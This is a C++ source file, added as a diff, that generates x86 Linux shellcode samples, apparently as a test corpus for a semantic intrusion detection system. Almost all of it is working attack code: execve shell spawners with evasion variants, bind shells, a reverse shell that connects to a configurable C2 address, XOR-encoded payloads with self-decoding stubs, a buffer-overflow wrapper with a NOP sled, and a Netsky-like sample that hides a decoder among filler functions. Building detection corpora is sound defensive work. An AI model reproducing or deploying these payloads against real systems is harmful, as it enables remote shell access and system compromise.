@@ -1,0 +1,424 @@
+#include "gen/shellcode.hpp"
+
+#include "gen/emitter.hpp"
+#include "gen/poly.hpp"
+
+namespace senids::gen {
+
+using util::Bytes;
+
+namespace {
+
+/// Shared tail: the canonical push-"/bin//sh" execve sequence.
+void emit_execve_push(Asm& a) {
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.push_r32(R32::eax);
+  a.push_imm32(0x68732f2f);  // "//sh"
+  a.push_imm32(0x6e69622f);  // "/bin"
+  a.mov_r32_r32(R32::ebx, R32::esp);
+  a.push_r32(R32::eax);
+  a.push_r32(R32::ebx);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.cdq();
+  a.mov_r8_imm8(R8::al, 0x0b);
+  a.int_imm(0x80);
+}
+
+/// v1: the canonical jmp/call/pop exploit (Aleph One lineage).
+Bytes shell_v1() {
+  Asm a;
+  auto lmain = a.new_label();
+  auto lget = a.new_label();
+  a.jmp_short(lget);
+  a.bind(lmain);
+  a.pop_r32(R32::ebx);                       // ebx = &"/bin/sh"
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.mov_mem_r8(R32::ebx, 7, R8::al);         // terminate the path
+  a.mov_mem_r32(R32::ebx, 8, R32::ebx);      // argv[0] = path
+  a.mov_mem_r32(R32::ebx, 12, R32::eax);     // argv[1] = NULL
+  a.lea(R32::ecx, R32::ebx, 8);
+  a.lea(R32::edx, R32::ebx, 12);
+  a.mov_r8_imm8(R8::al, 0x0b);
+  a.int_imm(0x80);
+  a.bind(lget);
+  a.call(lmain);
+  a.raw(util::as_bytes("/bin/shXAAAABBBB"));
+  return a.finish();
+}
+
+/// v2: stack-built path, no embedded string at all.
+Bytes shell_v2() {
+  Asm a;
+  emit_execve_push(a);
+  return a.finish();
+}
+
+/// v3: setuid(0) then spawn — the privilege-restore variant.
+Bytes shell_v3() {
+  Asm a;
+  a.xor_r32_r32(R32::ebx, R32::ebx);
+  a.lea(R32::eax, R32::ebx, 0x17);  // eax = 23 = setuid
+  a.int_imm(0x80);
+  emit_execve_push(a);
+  return a.finish();
+}
+
+/// v4: jmp/call/pop with reassigned registers and scattered no-ops.
+Bytes shell_v4() {
+  Asm a;
+  auto lmain = a.new_label();
+  auto lget = a.new_label();
+  a.jmp_short(lget);
+  a.bind(lmain);
+  a.pop_r32(R32::esi);
+  a.nop();
+  a.xor_r32_r32(R32::ecx, R32::ecx);
+  a.mov_mem_r8(R32::esi, 7, R8::cl);
+  a.mov_mem_r32(R32::esi, 8, R32::esi);
+  a.nop();
+  a.mov_mem_r32(R32::esi, 12, R32::ecx);
+  a.mov_r32_r32(R32::ebx, R32::esi);
+  a.lea(R32::ecx, R32::esi, 8);
+  a.lea(R32::edx, R32::esi, 12);
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.mov_r8_imm8(R8::al, 0x0b);
+  a.int_imm(0x80);
+  a.bind(lget);
+  a.call(lmain);
+  a.raw(util::as_bytes("/bin/shXAAAABBBB"));
+  return a.finish();
+}
+
+/// v5: the path dwords arrive encoded and are reconstructed
+/// arithmetically — a syntax-level evasion the semantic matcher folds
+/// straight through.
+Bytes shell_v5() {
+  Asm a;
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.push_r32(R32::eax);
+  a.mov_r32_imm32(R32::edi, 0x68732f2f ^ 0x42424242);
+  a.alu_r32_imm(6, R32::edi, 0x42424242);  // xor edi, mask -> "//sh"
+  a.push_r32(R32::edi);
+  a.mov_r32_imm32(R32::edi, 0x6e69622f - 0x01010101);
+  a.add_r32_imm(R32::edi, 0x01010101);     // -> "/bin"
+  a.push_r32(R32::edi);
+  a.mov_r32_r32(R32::ebx, R32::esp);
+  a.push_r32(R32::eax);
+  a.push_r32(R32::ebx);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.cdq();
+  a.mov_r8_imm8(R8::al, 0x0b);
+  a.int_imm(0x80);
+  return a.finish();
+}
+
+/// v6: path written with direct stores instead of pushes.
+Bytes shell_v6() {
+  Asm a;
+  a.sub_r32_imm(R32::esp, 16);
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.mov_mem_imm32(R32::esp, 0, 0x6e69622f);
+  a.mov_mem_imm32(R32::esp, 4, 0x68732f2f);
+  a.mov_mem_r32(R32::esp, 8, R32::eax);
+  a.mov_r32_r32(R32::ebx, R32::esp);
+  a.push_r32(R32::eax);
+  a.push_r32(R32::ebx);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.cdq();
+  a.mov_r8_imm8(R8::al, 0x0b);
+  a.int_imm(0x80);
+  return a.finish();
+}
+
+/// v7: register shuffling through xchg plus junk compares.
+Bytes shell_v7() {
+  Asm a;
+  a.xor_r32_r32(R32::edx, R32::edx);
+  a.xchg_r32_r32(R32::eax, R32::edx);      // eax = 0, edx = junk
+  a.push_r32(R32::eax);
+  a.test_r32_r32(R32::edi, R32::edi);      // junk
+  a.push_imm32(0x68732f2f);
+  a.cmp_r32_imm8(R32::esi, 3);             // junk
+  a.push_imm32(0x6e69622f);
+  a.mov_r32_r32(R32::ebx, R32::esp);
+  a.push_r32(R32::eax);
+  a.push_r32(R32::ebx);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.cdq();
+  a.mov_r8_imm8(R8::al, 0x0b);
+  a.int_imm(0x80);
+  return a.finish();
+}
+
+/// v8: push/pop idioms replace every mov.
+Bytes shell_v8() {
+  Asm a;
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.push_r32(R32::eax);
+  a.push_imm32(0x68732f2f);
+  a.push_imm32(0x6e69622f);
+  a.push_r32(R32::esp);
+  a.pop_r32(R32::ebx);                     // mov ebx, esp
+  a.push_r32(R32::eax);
+  a.push_r32(R32::ebx);
+  a.push_r32(R32::esp);
+  a.pop_r32(R32::ecx);                     // mov ecx, esp
+  a.cdq();
+  a.push_imm8(0x0b);
+  a.pop_r32(R32::eax);                     // eax = 11, full width
+  a.int_imm(0x80);
+  return a.finish();
+}
+
+/// Shared bind-shell skeleton; `port_be` in network byte order.
+Bytes bind_shell(std::uint16_t port_be, bool use_inc_chain) {
+  Asm a;
+  // socket(AF_INET, SOCK_STREAM, 0)
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.xor_r32_r32(R32::ebx, R32::ebx);
+  a.push_r32(R32::eax);
+  a.push_imm8(0x01);
+  a.push_imm8(0x02);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.inc_r32(R32::ebx);                     // SYS_SOCKET = 1
+  a.mov_r8_imm8(R8::al, 0x66);
+  a.int_imm(0x80);
+  a.mov_r32_r32(R32::esi, R32::eax);       // fd
+
+  // bind(fd, {AF_INET, port, 0.0.0.0}, 16)
+  a.xor_r32_r32(R32::edx, R32::edx);
+  a.push_r32(R32::edx);                    // sin_addr = INADDR_ANY
+  // struct dword: sin_family=2 | sin_port in the high half.
+  a.push_imm32(0x00000002u | (static_cast<std::uint32_t>(port_be) << 16));
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.push_imm8(0x10);
+  a.push_r32(R32::ecx);
+  a.push_r32(R32::esi);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.mov_r8_imm8(R8::bl, 0x02);             // SYS_BIND
+  a.mov_r8_imm8(R8::al, 0x66);
+  a.int_imm(0x80);
+
+  // listen(fd, 1)
+  a.push_imm8(0x01);
+  a.push_r32(R32::esi);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  if (use_inc_chain) {
+    a.inc_r32(R32::ebx);
+    a.inc_r32(R32::ebx);                   // 2 -> 4 = SYS_LISTEN
+  } else {
+    a.mov_r8_imm8(R8::bl, 0x04);
+  }
+  a.mov_r8_imm8(R8::al, 0x66);
+  a.int_imm(0x80);
+
+  // accept(fd, 0, 0)
+  a.xor_r32_r32(R32::edx, R32::edx);
+  a.push_r32(R32::edx);
+  a.push_r32(R32::edx);
+  a.push_r32(R32::esi);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  if (use_inc_chain) {
+    a.inc_r32(R32::ebx);                   // 4 -> 5 = SYS_ACCEPT
+  } else {
+    a.mov_r8_imm8(R8::bl, 0x05);
+  }
+  a.mov_r8_imm8(R8::al, 0x66);
+  a.int_imm(0x80);
+
+  emit_execve_push(a);
+  return a.finish();
+}
+
+}  // namespace
+
+std::vector<ShellcodeSample> make_shell_spawn_corpus() {
+  std::vector<ShellcodeSample> out;
+  out.push_back({"jmp-call-pop-classic", shell_v1(), false});
+  out.push_back({"push-builder", shell_v2(), false});
+  out.push_back({"setuid-restore", shell_v3(), false});
+  out.push_back({"jcp-reassigned", shell_v4(), false});
+  out.push_back({"arith-rebuild", shell_v5(), false});
+  out.push_back({"stack-store", shell_v6(), false});
+  out.push_back({"xchg-junk", shell_v7(), false});
+  out.push_back({"push-pop-idiom", shell_v8(), false});
+  out.push_back({"bind-shell-4444", bind_shell(/*port_be=*/0x5c11u, false), true});
+  out.push_back({"bind-shell-inc-chain", bind_shell(/*port_be=*/0x3930u, true), true});
+  return out;
+}
+
+util::Bytes make_fnstenv_decoder_payload(std::uint8_t key) {
+  Bytes plain = shell_v2();
+  Bytes encoded = plain;
+  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ key);
+
+  // The pointer register receives the address of the fldz; the decoder
+  // must add the stub's own length to reach the encoded payload. The
+  // stub length depends on the add's immediate encoding, so assemble
+  // twice: once to measure, once with the real displacement (the imm8
+  // form is stable for any stub under 128 bytes).
+  auto assemble = [&](std::uint8_t skip) {
+    Asm a;
+    auto lloop = a.new_label();
+    a.raw8(0xD9);
+    a.raw8(0xEE);              // fldz: the FPU instruction whose FIP is stored
+    a.raw8(0xD9);
+    a.raw8(0x74);
+    a.raw8(0x24);
+    a.raw8(0xF4);              // fnstenv [esp-12]: FIP lands at [esp-12+12]=[esp]
+    a.pop_r32(R32::esi);       // esi = &fldz
+    a.add_r32_imm(R32::esi, skip);
+    a.xor_r32_r32(R32::ecx, R32::ecx);
+    a.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(encoded.size()));
+    a.push_r32(R32::esi);      // save payload start for the final ret
+    a.bind(lloop);
+    a.xor_mem8_imm8(R32::esi, key);
+    a.inc_r32(R32::esi);
+    a.loop_(lloop);
+    a.ret();
+    return a.finish();
+  };
+  const std::size_t stub_len = assemble(1).size();
+  Bytes code = assemble(static_cast<std::uint8_t>(stub_len));
+  if (code.size() != stub_len) throw EmitError("fnstenv stub length drifted");
+  code.insert(code.end(), encoded.begin(), encoded.end());
+  return code;
+}
+
+util::Bytes make_reverse_shell(std::uint32_t c2_ip_be, std::uint16_t c2_port_be) {
+  Asm a;
+  // socket(AF_INET, SOCK_STREAM, 0)
+  a.xor_r32_r32(R32::eax, R32::eax);
+  a.xor_r32_r32(R32::ebx, R32::ebx);
+  a.push_r32(R32::eax);
+  a.push_imm8(0x01);
+  a.push_imm8(0x02);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.inc_r32(R32::ebx);                 // SYS_SOCKET
+  a.mov_r8_imm8(R8::al, 0x66);
+  a.int_imm(0x80);
+  a.mov_r32_r32(R32::esi, R32::eax);   // fd
+
+  // connect(fd, {AF_INET, port, ip}, 16)
+  // sin_addr arrives big-endian on the wire; the push stores it LE, so
+  // byte-swap here to keep network order in memory.
+  const std::uint32_t ip_le = ((c2_ip_be & 0xffu) << 24) | ((c2_ip_be & 0xff00u) << 8) |
+                              ((c2_ip_be >> 8) & 0xff00u) | (c2_ip_be >> 24);
+  a.push_imm32(ip_le);
+  a.push_imm32(0x00000002u | (static_cast<std::uint32_t>(c2_port_be) << 16));
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.push_imm8(0x10);
+  a.push_r32(R32::ecx);
+  a.push_r32(R32::esi);
+  a.mov_r32_r32(R32::ecx, R32::esp);
+  a.mov_r8_imm8(R8::bl, 0x03);         // SYS_CONNECT
+  a.mov_r8_imm8(R8::al, 0x66);
+  a.int_imm(0x80);
+
+  // dup2(fd, 2..0)
+  a.mov_r32_r32(R32::ebx, R32::esi);
+  a.push_imm8(0x02);
+  a.pop_r32(R32::ecx);
+  auto ldup = a.new_label();
+  a.bind(ldup);
+  a.mov_r8_imm8(R8::al, 0x3f);         // dup2
+  a.int_imm(0x80);
+  a.dec_r32(R32::ecx);
+  a.jcc(0x9, ldup);                    // jns: loop for 2,1,0
+
+  emit_execve_push(a);
+  return a.finish();
+}
+
+util::Bytes wrap_in_overflow(util::ByteView shellcode, util::Prng& prng,
+                             const OverflowOptions& options) {
+  Bytes out;
+  out.reserve(options.preamble.size() + options.filler_len + options.sled_len +
+              shellcode.size() + options.ret_count * 4 + 16);
+  out.insert(out.end(), options.preamble.begin(), options.preamble.end());
+  out.insert(out.end(), options.filler_len, options.filler_byte);
+  Bytes sled = make_nop_sled(prng, options.sled_len);
+  out.insert(out.end(), sled.begin(), sled.end());
+  out.insert(out.end(), shellcode.begin(), shellcode.end());
+  // Return-address region: the address must land inside the sled, so only
+  // the least significant byte varies (Section 4.2's invariant).
+  for (std::size_t i = 0; i < options.ret_count; ++i) {
+    util::put_u32le(out, options.ret_base | static_cast<std::uint32_t>(prng.below(0x80)));
+  }
+  out.insert(out.end(), {'\r', '\n', '\r', '\n'});
+  return out;
+}
+
+util::Bytes make_iis_asp_overflow_payload(std::uint8_t key) {
+  Bytes plain = shell_v2();
+  Bytes encoded = plain;
+  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ key);
+
+  Asm a;
+  auto lmain = a.new_label();
+  auto lget = a.new_label();
+  auto lloop = a.new_label();
+  a.jmp_short(lget);
+  a.bind(lmain);
+  a.pop_r32(R32::esi);
+  a.push_r32(R32::esi);  // save the payload start: the final ret runs it
+  a.xor_r32_r32(R32::ecx, R32::ecx);
+  a.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(encoded.size()));
+  a.bind(lloop);
+  a.xor_mem8_imm8(R32::esi, key);
+  a.inc_r32(R32::esi);
+  a.loop_(lloop);
+  a.ret();  // jump into the decoded payload
+  a.bind(lget);
+  a.call(lmain);
+  a.raw(encoded);
+  return a.finish();
+}
+
+util::Bytes make_netsky_like_sample(util::Prng& prng, std::size_t size_bytes) {
+  Bytes out;
+  out.reserve(size_bytes + 256);
+
+  // Place one decryption loop at a random interior position, surrounded by
+  // compiler-plausible function bodies and data blobs.
+  const std::size_t decoder_at = size_bytes / 3 + prng.below(size_bytes / 3);
+  bool decoder_emitted = false;
+
+  while (out.size() < size_bytes) {
+    if (!decoder_emitted && out.size() >= decoder_at) {
+      Bytes dec = make_iis_asp_overflow_payload(static_cast<std::uint8_t>(
+          1 + prng.below(255)));
+      out.insert(out.end(), dec.begin(), dec.end());
+      decoder_emitted = true;
+      continue;
+    }
+    if (prng.chance(0.25)) {
+      // Data blob (string table / constants).
+      Bytes blob = prng.bytes(16 + prng.below(96));
+      out.insert(out.end(), blob.begin(), blob.end());
+      continue;
+    }
+    // A small function: prologue, a few moves/ALU ops, epilogue.
+    Asm a;
+    a.push_r32(R32::ebp);
+    a.mov_r32_r32(R32::ebp, R32::esp);
+    const std::size_t body = 2 + prng.below(8);
+    for (std::size_t i = 0; i < body; ++i) {
+      const R32 r = static_cast<R32>(prng.below(4));  // eax..ebx
+      switch (prng.below(4)) {
+        case 0: a.mov_r32_imm32(r, static_cast<std::uint32_t>(prng.next())); break;
+        case 1: a.add_r32_imm(r, static_cast<std::int32_t>(prng.below(1 << 20))); break;
+        case 2: a.xor_r32_r32(r, static_cast<R32>(prng.below(4))); break;
+        default: a.push_r32(r); a.pop_r32(r); break;
+      }
+    }
+    a.pop_r32(R32::ebp);
+    a.ret();
+    Bytes fn = a.finish();
+    out.insert(out.end(), fn.begin(), fn.end());
+  }
+  out.resize(size_bytes);
+  return out;
+}
+
+}  // namespace senids::gen
